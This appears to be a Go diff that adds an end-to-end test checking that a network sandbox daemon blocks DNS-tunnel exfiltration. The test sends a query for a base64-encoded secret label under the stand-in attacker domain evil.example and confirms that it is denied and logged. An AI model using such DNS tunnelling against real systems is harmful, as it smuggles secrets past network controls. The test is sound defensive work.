@@ -2,9 +2,12 @@ package e2e
 
 import (
 	"fmt"
+	"net"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 
@@ -225,4 +228,63 @@ func TestBypassConnectShapes(t *testing.T) {
 		t.Errorf("daemonized grandchild: %s, want EPERM", result)
 	}
 	d.recordOf(t, "daemonized grandchild", audit.KindConnect, pid, denied)
+}
+
+// A DNS tunnel: a member whose scope allows a resolver asks it for
+// <secret>.evil.example. With the default dns mode (scoped) the query
+// fails at sendto and never reaches the resolver, which a query for an
+// allowed name sent after it proves, and a dns record names what was asked.
+func TestBypassDNSTunnel(t *testing.T) {
+	d := startDaemon(t)
+	pc, err := net.ListenPacket("udp", "127.0.55.1:53")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var mu sync.Mutex
+	var got []string
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		buf := make([]byte, 4096)
+		for {
+			n, from, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			if n < 12 {
+				continue
+			}
+			var labels []string
+			for p := 12; p < n && buf[p] != 0 && p+1+int(buf[p]) <= n; p += 1 + int(buf[p]) {
+				labels = append(labels, string(buf[p+1:p+1+int(buf[p])]))
+			}
+			mu.Lock()
+			got = append(got, strings.Join(labels, "."))
+			mu.Unlock()
+			reply := slices.Clone(buf[:n])
+			reply[2], reply[3] = 0x81, 0x83 // a response, NXDOMAIN
+			pc.WriteTo(reply, from)
+		}
+	}()
+	t.Cleanup(func() { pc.Close(); <-done })
+
+	const tunnel = "aGVsbG8gd29ybGQ.evil.example"
+	res := runProbe(t, d, []string{"--allow", "udp://127.0.55.1:53", "--allow", "api.example.com:443"},
+		"dnsq 127.0.55.1:53 "+tunnel, "dnsq 127.0.55.1:53 api.example.com")
+	if res[0].result != "EPERM" || res[1].result != "ok" {
+		t.Errorf("tunnel query, allowed query: %v; want EPERM ok", res)
+	}
+	mu.Lock()
+	if !slices.Equal(got, []string{"api.example.com"}) {
+		t.Errorf("the resolver received %q, want only api.example.com", got)
+	}
+	mu.Unlock()
+	r := d.recordOf(t, "tunnel query", audit.KindDNS, res[0].pid, denied)
+	if r.Query == nil || r.Query.Name != tunnel || r.Query.Type != "A" || r.Outcome.Reason != "dns_name_unscoped" ||
+		r.Outcome.Errno != "EPERM" || r.Destination == nil || r.Destination.IP != "127.0.55.1" || r.Destination.Port != 53 {
+		t.Errorf("tunnel record: query %+v outcome %+v destination %+v", r.Query, r.Outcome, r.Destination)
+	}
+	if r.Session == nil || r.Session.ID == "" || r.Session.ID == "unknown" {
+		t.Errorf("tunnel record session %+v", r.Session)
+	}
 }
